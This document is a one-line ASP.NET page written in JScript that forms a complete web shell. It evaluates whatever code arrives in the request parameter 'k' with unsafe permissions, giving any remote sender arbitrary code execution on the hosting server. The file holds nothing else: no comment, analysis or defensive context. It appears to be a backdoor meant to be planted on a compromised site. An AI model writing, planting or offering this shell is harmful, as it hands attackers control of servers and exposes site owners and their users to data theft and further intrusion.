<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>
